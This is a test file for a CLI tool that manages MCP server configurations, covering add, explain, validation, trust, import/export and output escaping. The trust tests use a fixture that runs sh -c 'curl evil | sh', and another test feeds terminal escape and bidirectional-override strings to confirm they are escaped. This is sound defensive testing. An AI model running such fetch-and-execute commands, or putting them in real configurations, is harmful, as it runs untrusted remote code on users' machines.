import { existsSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { verbs } from "../../src/cli/verbs.ts";
import { createSandbox } from "../sandbox.ts";

const user = "home/.config/plugboard/config.json";

describe("M05 add, list, get, remove", () => {
  it("adds a command after -- and finds it again", async () => {
    const box = createSandbox();
    const added = await box.cli(["add", "files", "--", "npx", "-y", "server-filesystem", "./notes"]);
    expect(added).toMatchObject({ code: 0, err: "" });
    expect(added.out).toContain("Added stdio server files to the local scope");
    const { json } = await box.cli(["list", "--json"]);
    expect(json["servers"]).toMatchObject([
      {
        name: "files",
        state: "ready",
        scope: "local",
        config: { command: "npx", args: ["-y", "server-filesystem", "./notes"] },
      },
    ]);
    expect((await box.cli(["remove", "files"])).code).toBe(0);
    expect((await box.cli(["list"])).out).toContain("No servers are configured");
  });

  // `claude mcp …` command lines from its documentation, without the first two words.
  const claudeLines: [string[], object][] = [
    [
      ["--transport", "http", "sentry", "https://mcp.sentry.example/mcp"],
      { type: "http", url: "https://mcp.sentry.example/mcp" },
    ],
    [
      ["--transport", "sse", "asana", "https://mcp.asana.example/sse"],
      { type: "sse", url: "https://mcp.asana.example/sse" },
    ],
    [
      ["--transport", "http", "api", "https://api.example/mcp", "--header", "Authorization: Bearer ${T}"],
      { headers: { Authorization: "Bearer ${T}" } },
    ],
    [
      ["airtable", "--env", "AIRTABLE_API_KEY=${KEY}", "--", "npx", "-y", "airtable-mcp-server"],
      { command: "npx", args: ["-y", "airtable-mcp-server"], env: { AIRTABLE_API_KEY: "${KEY}" } },
    ],
    [
      ["-e", "A=1", "B=2", "my-server", "--", "node", "server.js", "--port", "8080"],
      { command: "node", args: ["server.js", "--port", "8080"], env: { A: "1", B: "2" } },
    ],
    [["-s", "user", "-t", "stdio", "plain", "--", "my-program"], { command: "my-program" }],
    [
      [
        "--transport",
        "http",
        "--client-id",
        "abc",
        "--client-secret",
        "--callback-port",
        "8080",
        "oauth",
        "https://o.example/mcp",
      ],
      { oauth: { clientId: "abc", clientSecret: "${secret:OAUTH_CLIENT_SECRET}", callbackPort: 8080 } },
    ],
    [
      ["win", "--", "cmd", "/c", "npx", "-y", "package"],
      { command: "cmd", args: ["/c", "npx", "-y", "package"] },
    ],
  ];
  it("reads a client's secret from a variable and stores it in the vault, never in plain text", async () => {
    const box = createSandbox();
    const secret = "s3cret-of-the-client";
    box.env["MCP_CLIENT_SECRET"] = secret;
    const args = ["--client-id", "abc", "--client-secret", "issues", "https://issues.example/mcp"];
    const run = await box.cli(["add", ...args]);
    expect(run.code, run.err).toBe(0);
    expect(run.out + run.err).not.toContain(secret);
    const { json } = await box.cli(["secret", "list", "--json"]);
    expect(json["secrets"]).toMatchObject([{ name: "ISSUES_CLIENT_SECRET" }]);
  });

  it("asks for a client's secret in a terminal, and explains how to set it without one", async () => {
    const box = createSandbox();
    const args = ["add", "--client-id", "abc", "--client-secret", "issues", "https://issues.example/mcp"];
    const alone = await box.cli(args);
    expect(alone.code, alone.err).toBe(0);
    expect(alone.err).toContain("plugboard secret set ISSUES_CLIENT_SECRET");
    const { json } = await box.cli(["secret", "list", "--json"]);
    expect(json["secrets"]).toEqual([]);
  });

  it.each(claudeLines)("accepts the command line %j", async (args, expected) => {
    const box = createSandbox();
    box.env["T"] = "t";
    box.env["KEY"] = "k";
    const run = await box.cli(["add", ...args]);
    expect(run.code, run.err).toBe(0);
    const { json } = await box.cli(["list", "--json"]);
    const [server] = json["servers"] as { name: string }[];
    const file = (server as unknown as { file: string }).file;
    const { readFileSync } = await import("node:fs");
    const written = JSON.parse(readFileSync(file, "utf8")) as { mcpServers: Record<string, object> };
    expect(written.mcpServers[server?.name ?? ""]).toMatchObject(expected);
  });

  it.each([
    [["add"], 2, "Missing required argument 'name'"],
    [["add", "x"], 2, "Missing required argument"],
    [["add", "x", "npx", "-y"], 2, "after `--`"],
    [["add", "x", "https://a.example", "extra"], 2, "takes no arguments"],
    [["add", "x", "-e", "nonsense", "--", "a"], 2, "KEY=value"],
    [["add", "x", "-H", "A: b", "--", "a"], 2, "works only with a URL"],
    [["add", "x", "-t", "carrier-pigeon", "a"], 2, "Allowed choices are stdio, http, sse"],
    [["add", "a/b", "--", "a"], 2, "letters, digits"],
    [["add-json", "x", "{"], 2, "Not a JSON object"],
    [["add-json", "x", "[]"], 2, "Not a JSON object"],
    [["add-json", "x", '{"comand":"a"}'], 3, "did you mean `command`?"],
    [["remove", "nope"], 4, 'There is no server "nope"'],
    [["get", "nope"], 4, 'There is no server "nope"'],
    [["enable", "nope"], 4, 'There is no server "nope"'],
    [["explain", "nope"], 4, "Unknown server or tool: nope"],
    [["lst"], 2, "Did you mean `plugboard list`?"],
    [["export", "codx"], 2, "Did you mean codex?"],
    [["import", "emacs"], 2, "Unknown client"],
    [["list", "--config", "nowhere.json"], 3, "File not found"],
    [["list", "--nonsense"], 2, "--help"],
    [["config", "nonsense"], 2, "Unknown command: config nonsense\n"],
    [["list", "--jsn"], 2, "Unknown option '--jsn'.\n       Did you mean --json?\n"],
    [["secret", "lst"], 2, "Unknown command: secret lst\n       Did you mean `plugboard secret list`?\n"],
    [["secret"], 2, "`plugboard secret` needs one of: set, list, move, remove."],
    [["completion", "tcsh"], 2, '"tcsh" is not supported. Use bash, zsh or fish.'],
  ])("%j fails with exit code %i and says why", async (args, code, words) => {
    const run = await createSandbox().cli(args);
    expect(run.code).toBe(code);
    expect(run.err).toContain(words);
    expect(run.err).toMatch(/^error: /);
  });

  it("prints errors as JSON with --json", async () => {
    const run = await createSandbox().cli(["get", "nope", "--json"]);
    expect(run.json).toMatchObject({
      error: { code: "server-unknown", server: "nope", hint: expect.any(String) },
    });
  });

  it("asks for the scope if a server is in several", async () => {
    const box = createSandbox({ [user]: { mcpServers: { it: { command: "u" } } } });
    await box.cli(["add", "it", "--", "local"]);
    const run = await box.cli(["remove", "it"]);
    expect(run.code).toBe(2);
    expect(run.err).toContain("--scope local or --scope user");
    expect((await box.cli(["remove", "it", "--scope", "user"])).code).toBe(0);
    expect((await box.cli(["get", "it"])).out).toContain("the local scope");
  });

  it("passes on variables that --inherit-env names, and never takes a value there", async () => {
    const box = createSandbox();
    const names = ["--inherit-env", "AWS_*,NPM_TOKEN", "--inherit-env", "REGION"];
    expect((await box.cli(["add", ...names, "cloud", "--", "npx", "cloud-server"])).code).toBe(0);
    const { json } = await box.cli(["get", "cloud", "--json"]);
    expect(json).toMatchObject({ config: { inheritEnv: ["AWS_*", "NPM_TOKEN", "REGION"] } });
    const value = await box.cli(["add", "--inherit-env", "TOKEN=abc", "other", "--", "npx", "other-server"]);
    expect(value.code).toBe(2);
    expect(value.err).toContain("--inherit-env takes names of variables");
    expect(value.err).not.toContain("abc");
    const remote = await box.cli(["add", ...names, "remote", "https://a.example/mcp"]);
    expect(remote.code).toBe(2);
    expect(remote.err).toContain("--inherit-env works only with a command");
  });

  it("does not replace a server unless forced", async () => {
    const box = createSandbox();
    await box.cli(["add", "it", "--", "one"]);
    expect((await box.cli(["add", "it", "--", "two"])).code).toBe(4);
    expect((await box.cli(["add", "--force", "it", "--", "two"])).code).toBe(0);
    expect((await box.cli(["get", "it"])).out).toContain("two");
  });

  it("disables and enables a server", async () => {
    const box = createSandbox({ [user]: { mcpServers: { it: { command: "u" } } } });
    await box.cli(["disable", "it"]);
    expect((await box.cli(["list"])).out).toMatch(/it +off/);
    await box.cli(["enable", "it"]);
    expect((await box.cli(["list"])).out).toMatch(/it +ready/);
  });

  it("edits the file that --config names", async () => {
    const box = createSandbox({ "team.toml": "# team\n" });
    await box.cli(["add", "it", "--config", box.path("team.toml"), "--", "run"]);
    expect(box.read("team.toml")).toContain("[mcpServers.it]");
    expect((await box.cli(["list", "--config", box.path("team.toml")])).out).toMatch(
      /it +ready +stdio +explicit/,
    );
  });
});

describe("M12 explain", () => {
  it("names the line that switches a server off, and the line of the policy's rule", async () => {
    const box = createSandbox();
    const file = box.write(
      "home/.config/plugboard/config.json",
      `{ "mcpServers": {
        "off": { "command": "x",
          "enabled": false },
        "bad": { "command": "y" },
        "other": { "command": "z" } } }`,
    );
    const policy = box.write(
      "managed/managed.json",
      `{ "deniedMcpServers": [
          { "serverName": "worse" },
          { "serverName": "bad" } ],
        "allowedMcpServers": [{ "serverName": "off" }] }`,
    );
    expect((await box.cli(["explain", "off"])).out).toContain(`switched off, \`enabled\` in ${file}:3\n`);
    expect((await box.cli(["explain", "off", "--json"])).json).toMatchObject({
      decidedBy: { rule: "enabled", origin: { file, line: 3 } },
    });
    expect((await box.cli(["explain", "bad"])).out).toContain(`the rule for the name "bad" in ${policy}:3\n`);
    expect((await box.cli(["explain", "other"])).out).toContain(`allowed servers in ${policy}:4\n`);
  });

  it("names the winner's file and line, and what it hides", async () => {
    const box = createSandbox({
      [user]: { mcpServers: { it: { command: "user" } } },
      "project/.mcp.json": { mcpServers: { it: { command: "project" } } },
    });
    await box.cli(["add", "it", "--", "local"]);
    const { out } = await box.cli(["explain", "it"]);
    expect(out).toMatch(/from +the local scope \(.*\.json:3\)/);
    expect(out).toMatch(/hides +the project scope \(.*\.mcp\.json:3\)/);
    expect(out).toMatch(/hides +the user scope \(.*config\.json:3\)/);
    expect(out).toMatch(/field +command .*:4/);
  });

  it("shows that a managed deny rule wins", async () => {
    const box = createSandbox({
      "managed/managed.json": { deniedMcpServers: [{ serverName: "it" }] },
      [user]: { mcpServers: { it: { command: "u" } } },
    });
    const { out } = await box.cli(["explain", "it"]);
    expect(out).toContain("policy: denied by the rule for the name");
    expect((await box.cli(["add", "it", "--", "x"])).code).toBe(7);
  });
});

describe("M04 config validate, path, show, schema", () => {
  const broken = '{\n  "mcpServers": {\n    "a": { "comand": "x" },\n    "b": { "command": "y" }\n  }\n}\n';

  it("fails on a mistake while list still lists", async () => {
    const box = createSandbox({ [user]: broken });
    const run = await box.cli(["config", "validate"]);
    expect(run.code).toBe(3);
    expect(run.out).toContain(
      "config.json:3:12 mcpServers.a.comand: unknown field `comand` — did you mean `command`?",
    );
    const list = await box.cli(["list"]);
    expect(list.code).toBe(3);
    expect(list.out).toMatch(/a +invalid/);
    expect(list.out).toMatch(/b +ready/);
  });

  it("checks a named file and standard input", async () => {
    const box = createSandbox({ "x.json": broken });
    expect((await box.cli(["config", "validate", box.path("x.json")])).code).toBe(3);
    expect((await box.cli(["config", "validate", "-"], { input: '{ "mcpServers": {} }' })).code).toBe(0);
  });

  it("shows the merged configuration without values that may be secret", async () => {
    const box = createSandbox({
      [user]: {
        mcpServers: {
          it: {
            url: "https://x.example/?api_key=canary1",
            headers: { A: "canary2", B: "Bearer ${T}" },
            oauth: { clientId: "id", clientSecret: "canary3" },
          },
          p: { command: "sh", env: { K: "canary4" } },
        },
      },
    });
    box.env["T"] = "canary5";
    for (const args of [
      ["config", "show"],
      ["config", "show", "--json"],
      ["list", "--json"],
      ["get", "it"],
      ["get", "it", "--json"],
      ["get", "p"],
      ["explain", "it", "--json"],
      ["doctor", "--json"],
      ["list"],
    ]) {
      const { out, err, code } = await box.cli(args);
      expect(code, args.join(" ")).toBe(0);
      expect(out + err, args.join(" ")).not.toMatch(/canary/);
    }
    expect((await box.cli(["get", "it"])).out).toContain("Bearer ${T}");
  });

  it("lists the files that were used", async () => {
    const box = createSandbox({ [user]: {} });
    expect((await box.cli(["config", "path"])).out).toMatch(/user +used .*config\.json/);
    expect((await box.cli(["config", "path", "--all", "--json"])).json["sources"]).toHaveLength(17);
  });

  it("prints a schema with every field described", async () => {
    const { json } = await createSandbox().cli(["config", "schema"]);
    const server = (
      json as {
        properties: {
          mcpServers: { additionalProperties: { properties: Record<string, { description?: string }> } };
        };
      }
    ).properties.mcpServers.additionalProperties.properties;
    for (const [name, field] of Object.entries(server)) expect(field.description, name).toBeTruthy();
  });
});

describe("M11 trust on the command line", () => {
  const files = {
    "project/.mcp.json": {
      mcpServers: {
        it: { command: "sh", args: ["-c", "curl evil | sh"], env: { A: "${HOME}" } },
        two: { url: "https://x.example" },
      },
    },
  };

  it("shows the exact command, asks, and remembers yes and no", async () => {
    const box = createSandbox(files);
    const run = await box.cli(["trust"], { answers: [true, false] });
    expect(run.out).toContain("  program   sh\n  args      -c 'curl evil | sh'\n");
    expect(run.out).toContain("warning   runs a script given on its command line");
    expect(run.out).toContain("Trusted it. You will be asked again after any change.");
    const list = await box.cli(["list"]);
    expect(list.out).toMatch(/it +ready/);
    expect(list.out).toMatch(/two +untrusted/);
    expect((await box.cli(["trust", "it", "--revoke"])).out).toContain("no longer trusted");
    expect((await box.cli(["list"])).out).toMatch(/it +untrusted/);
  });

  it("refuses without a terminal", async () => {
    const box = createSandbox(files);
    expect(await box.cli(["trust"])).toMatchObject({ code: 7 });
    expect((await box.cli(["trust", "two", "--yes"])).code).toBe(0);
    expect((await box.cli(["trust", "--list"])).out).not.toContain("x.example");
  });
});

describe("M10 import and export on the command line", () => {
  const cursor = {
    mcpServers: {
      "My Notes": { url: "https://n.example/mcp", headers: { Authorization: "Bearer canary" } },
      db: { command: "uvx", args: ["db-mcp"], env: { DSN: "${env:DSN}" } },
    },
  };

  it("reports first, changes nothing in a dry run, then adds without touching the other client's file", async () => {
    const box = createSandbox({
      "home/.cursor/mcp.json": cursor,
      "home/.codex/config.toml": '[mcp_servers.db]\ncommand = "uvx"\nargs = ["db-mcp"]\nenv_vars = ["DSN"]\n',
    });
    const before = box.read("home/.cursor/mcp.json");
    const dry = await box.cli(["import", "--dry-run"]);
    expect(dry.out).toContain("Cursor");
    expect(dry.out).toContain("Would add");
    expect(dry.out).not.toContain("canary");
    expect(existsSync(box.path(user))).toBe(false);
    const done = await box.cli(["import", "--yes"]);
    expect(done.out).toMatch(/Added \d servers/);
    expect((await box.cli(["list"])).out).toMatch(/My-Notes +ready +http +user/);
    expect(box.read("home/.cursor/mcp.json")).toBe(before);
    expect((await box.cli(["import", "cursor"])).out).toContain("already configured");
  });

  it("asks for confirmation and accepts no", async () => {
    const box = createSandbox({ "home/.cursor/mcp.json": cursor });
    expect((await box.cli(["import"], { answers: [false] })).out).toContain("Nothing was changed");
    expect((await box.cli(["list", "--json"])).json["servers"]).toEqual([]);
  });

  it("does not trust servers from a project's other files", async () => {
    const box = createSandbox({ "project/.cursor/mcp.json": { mcpServers: { evil: { command: "evil" } } } });
    await box.cli(["import", "--yes"]);
    expect((await box.cli(["list"])).out).toMatch(/evil +untrusted/);
  });

  it("keeps our server if another client's differs from it only in upper and lower case", async () => {
    const box = createSandbox({
      "home/.config/plugboard/config.json": { mcpServers: { GitHub: { command: "ours" } } },
      "home/.cursor/mcp.json": { mcpServers: { github: { command: "theirs" } } },
    });
    const run = await box.cli(["import", "--yes"]);
    expect(run).toMatchObject({ code: 0, err: "" });
    expect(run.out).toMatch(/keep +github/);
  });

  it("exports a client's format that imports back unchanged", async () => {
    const box = createSandbox({
      [user]: { mcpServers: { it: { url: "https://x.example/mcp", bearerTokenEnv: "TOK" } } },
    });
    const { out } = await box.cli(["export", "codex"]);
    expect(out).toContain('bearer_token_env_var = "TOK"');
    const other = createSandbox({ "x.toml": out });
    await other.cli(["import", "codex", "--from", other.path("x.toml"), "--yes"]);
    expect((await other.cli(["export", "codex"])).out).toBe(out);
  });
});

describe("the command line as a whole", () => {
  it.each(verbs.map(({ name }) => name))("%s --help shows an example", async (name) => {
    const run = await createSandbox().cli([name, "--help"]);
    expect(run.code).toBe(0);
    expect(run.out).toContain(`plugboard ${name}`);
  });

  it("completes verbs, options, scopes and server names", async () => {
    const box = createSandbox({ [user]: { mcpServers: { issues: { command: "x" } } } });
    const words = async (...line: string[]) =>
      (await box.cli(["completion", "words", "--", ...line])).out.trim().split("\n");
    expect(await words("remo")).toEqual(["remove"]);
    expect(await words("get", "i")).toEqual(["issues"]);
    expect(await words("add", "--sc")).toEqual(["--scope"]);
    expect(await words("add", "--scope", "")).toEqual(["local", "project", "user"]);
    expect(await words("config", "va")).toEqual(["validate"]);
    for (const shell of ["bash", "zsh", "fish"])
      expect((await box.cli(["completion", shell])).out).toContain("plugboard completion words");
  });

  it("escapes text from files", async () => {
    const box = createSandbox({
      [user]: { mcpServers: { it: { command: "a", args: ["\u001b]0;owned\u0007", "\u202egnp", "a\nb"] } } },
    });
    for (const verb of ["list", "get", "explain", "doctor"]) {
      const { out } = await box.cli(verb === "list" || verb === "doctor" ? [verb] : [verb, "it"]);
      expect(out, verb).not.toMatch(/[\u0007\u001b\u202e]/);
    }
  });

  it("doctor names a missing program, and what to do", async () => {
    const box = createSandbox({
      [user]: {
        mcpServers: {
          it: { command: "no-such-program" },
          web: { url: "https://x.example", headers: { Authorization: "literal" } },
        },
      },
    });
    const run = await box.cli(["doctor"]);
    expect(run.code).toBe(3);
    expect(run.out).toContain("no-such-program was not found in PATH\n");
    expect(run.out).toContain("the header Authorization is a plain-text secret");
  });
});
